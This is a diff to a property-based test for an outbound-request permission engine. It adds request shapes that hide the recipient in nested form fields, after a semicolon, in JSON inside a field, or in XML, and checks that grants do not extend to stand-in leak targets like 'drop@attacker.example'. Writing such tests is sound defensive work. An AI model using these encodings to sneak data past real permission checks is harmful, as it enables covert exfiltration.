@@ -1493,6 +1493,13 @@ t.test('a REST call on a host no module describes: a grant covers the place its 
     { name: 'sendgrid', places: ['alice@corp.example', 'drop@attacker.example'], shape: (to, text) => ({ url: 'https://mail.example/v3/mail/send', type: 'application/json', body: JSON.stringify({ personalizations: [{ to: [{ email: to }] }], from: { email: 'bot@corp.example' }, content: [{ type: 'text/plain', value: text }] }) }) },
     { name: 'query', places: ['https://docs.corp.example/a', 'https://attacker.example/?d=1'], shape: (url, text) => ({ url: `https://render.example/v1/screenshot?url=${encodeURIComponent(url)}&label=${encodeURIComponent(text)}`, type: 'text/plain', body: text }) },
     { name: 'multipart', places: ['alice@corp.example', 'drop@attacker.example'], shape: (to, text) => ({ url: 'https://mail.example/v3/messages', type: 'multipart/form-data; boundary=B', body: `--B\r\nContent-Disposition: form-data; name="recipient"\r\n\r\n${to}\r\n--B\r\nContent-Disposition: form-data; name="text"\r\n\r\n${text}\r\n--B--\r\n` }) },
+    // Spelled as servers that read more read it: a Rack/PHP nested form name, a place after a `;`
+    // (Rack 2, older Python and Go split there), a field holding JSON, an XML body's element and attribute.
+    { name: 'nested form', places: ['alice@corp.example', 'drop@attacker.example'], shape: (to, text) => ({ url: 'https://mail.example/api/messages', type: 'application/x-www-form-urlencoded', body: `message[text]=${encodeURIComponent(text)}&message[to]=${encodeURIComponent(to)}` }) },
+    { name: 'semicolon', places: ['alice@corp.example', 'drop@attacker.example'], shape: (to, text) => ({ url: `https://mail.example/api/send?x=1;to=${encodeURIComponent(to)}`, type: 'application/x-www-form-urlencoded', body: `text=${encodeURIComponent(text)}` }) },
+    { name: 'json in a field', places: ['alice@corp.example', 'drop@attacker.example'], shape: (to, text) => ({ url: 'https://mail.example/api/send', type: 'application/x-www-form-urlencoded', body: form({ text, payload: JSON.stringify({ to }) }) }) },
+    { name: 'xml', places: ['alice@corp.example', 'drop@attacker.example'], shape: (to, text) => ({ url: 'https://mail.example/api/send.xml', type: 'application/xml', body: `<?xml version="1.0"?><message><to>${to}</to><text>${text}</text></message>` }) },
+    { name: 'xml attribute', places: ['C0TEAM', 'C0LEAK'], shape: (channel, text) => ({ url: 'https://chat.acme.dev/api/post', type: 'text/xml', body: `<post channel="${channel}"><text>${text}</text></post>` }) },
   ];
   let covered = 0;
   await fc.assert(fc.asyncProperty(fc.constantFrom(...apis), fc.boolean(), fc.constantFrom('hi', 'the quarterly numbers'), async (api, same, text) => {
@@ -1504,7 +1511,7 @@ t.test('a REST call on a host no module describes: a grant covers the place its 
     const allowed = (await engine.decide(d)).action === 'allow';
     if (allowed) covered++;
     return allowed === same;
-  }), { numRuns: 16, examples: [[apis[0]!, false, 'hi'], [apis[1]!, false, 'hi'], [apis[2]!, false, 'hi'], [apis[1]!, true, 'the quarterly numbers']] });
+  }), { numRuns: 24, examples: [[apis[0]!, false, 'hi'], [apis[1]!, false, 'hi'], [apis[2]!, false, 'hi'], [apis[1]!, true, 'the quarterly numbers'], ...apis.slice(5).map((a): [Api, boolean, string] => [a, false, 'hi'])] });
   t.ok(covered > 0, `the same place with other content is still covered (${covered})`);
   // A grant for a call that named no place does not cover one that names a recipient.
   for (const g of queue.grants()) await queue.revokeGrant(g.id);
